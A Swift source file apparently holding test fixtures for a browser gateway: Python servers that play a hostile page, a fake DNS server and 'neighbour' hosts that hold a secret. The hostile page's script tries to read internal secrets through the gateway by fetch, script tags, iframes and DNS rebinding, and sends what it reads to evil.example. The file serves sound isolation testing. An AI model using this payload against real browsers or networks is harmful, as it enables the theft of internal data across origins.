import Foundation

/// Servers for a browser that shows a hostile page, as scripts of Python's standard library.
enum BrowserScripts {
  /// What nobody may learn.
  static let secret = "the-neighbours-secret"

  /// `page.py ADDRESS PORT GATEWAY SECRETS`: gives out the hostile page. Every request is a line of its output; the
  /// paths of `/report/...` say what the page has read. `/rebind` closes the port of the gateway's number on which the
  /// same page is served.
  static let hostile = #"""
    import http.server, sys, threading, urllib.parse
    ADDRESS, PORT, GATEWAY, SECRETS = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4].split(",")
    PAGE = b"""<!doctype html><title>hostile</title><script>
    const reports = 'http://evil.example:%PORT%/report/'
    const report = (what, text) => fetch(reports + what + '/' + encodeURIComponent(text), {mode: 'no-cors'})
    const read = async (what, url, how) => {
      let text = 'failed'
      try { text = await (await fetch(url, how)).text() } catch (error) {}
      await report(what, text)
    }
    const load = (what, url) => new Promise(done => {
      window.stolen = ''
      const script = document.createElement('script'); script.src = url
      script.onload = script.onerror = async () => { await report(what, window.stolen); done() }
      document.head.append(script)
    })
    const frame = (url) => {
      const frame = document.createElement('iframe')
      frame.src = url
      document.body.append(frame)
    }
    window.onload = async () => {
      const own = location.port == '%GATEPORT%' || location.host == '%GATEWAY%'
      if (own && location.host != '%GATEWAY%') {
        await fetch('/rebind').catch(() => {})
        await new Promise(done => setTimeout(done, 62000))
      }
      for (const secret of %SECRETS%) {
        for (const form of ['/http://', '/http/']) {
          const url = (own ? '' : 'http://%GATEWAY%') + form + secret
          await read('fetch', url); await load('script', url + '.js'); frame(url)
        }
        await read('direct', 'http://' + secret)
      }
      await read('metrics', (own ? '' : 'http://%GATEWAY%') + '/metrics')
      if (!own) frame('http://%GATEWAY%/http://evil.example:%PORT%/inner')
      await report('done', location.host)
    }
    </script><body></body>"""
    PAGE = PAGE.replace(b"%PORT%", str(PORT).encode()).replace(b"%GATEPORT%", GATEWAY.split(":")[1].encode())
    PAGE = PAGE.replace(b"%GATEWAY%", GATEWAY.encode()).replace(b"%SECRETS%", str(SECRETS).encode())

    class Handler(http.server.BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.0"
        def do_GET(self):
            print(self.headers.get("host"), urllib.parse.unquote(self.path), flush=True)
            body = PAGE if not self.path.startswith("/report") else b""
            self.send_response(200)
            self.send_header("content-type", "text/html")
            self.send_header("content-length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)
            if self.path == "/rebind": threading.Thread(target=close).start()
        def log_message(self, *words): pass

    def close():
        same.shutdown()
        same.server_close()

    same = http.server.ThreadingHTTPServer((ADDRESS, int(GATEWAY.split(":")[1])), Handler)
    threading.Thread(target=same.serve_forever, daemon=True).start()
    server = http.server.ThreadingHTTPServer((ADDRESS, PORT), Handler)
    print("listening", flush=True)
    server.serve_forever()

    """#

  /// `names.py FILE`: a name server that answers at once with what the file says, lines of `ADDRESS NAME`, and nobody
  /// may keep it.
  static let names = #"""
    import socket, struct, sys
    server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    server.bind(("127.0.0.53", 53))
    print("listening", flush=True)
    while True:
        query, client = server.recvfrom(4096)
        at, labels = 12, []
        while query[at]:
            labels.append(query[at + 1:at + 1 + query[at]].decode())
            at += 1 + query[at]
        kind = struct.unpack(">H", query[at + 1:at + 3])[0]
        names = dict(reversed(line.split()) for line in open(sys.argv[1]))
        address = names.get(".".join(labels).lower()) if kind == 1 else None
        head = query[:2] + struct.pack(">HHHHH", 0x8180, 1, 1 if address else 0, 0, 0) + query[12:at + 5]
        answer = b"\xc0\x0c" + struct.pack(">HHIH", 1, 1, 0, 4) + socket.inet_aton(address) if address else b""
        server.sendto(head + answer, client)

    """#

  /// `secrets.py ADDRESS:PORT...`: answers everything with the secret, as a text and as a script.
  static let neighbours = #"""
    import http.server, sys, threading

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            print(self.headers.get("host"), self.path, flush=True)
            body = b"%SECRET%" if not self.path.endswith(".js") else b"window.stolen = '%SECRET%'"
            self.send_response(200)
            self.send_header("content-type", "text/javascript" if self.path.endswith(".js") else "text/plain")
            self.send_header("content-length", str(len(body)))
            self.end_headers()
            if self.command == "GET": self.wfile.write(body)
        do_HEAD = do_GET
        def log_message(self, *words): pass

    for place in sys.argv[1:]:
        address, port = place.rsplit(":", 1)
        server = http.server.ThreadingHTTPServer((address, int(port)), Handler)
        threading.Thread(target=server.serve_forever).start()
    print("listening", flush=True)

    """#.replacingOccurrences(of: "%SECRET%", with: secret)
}
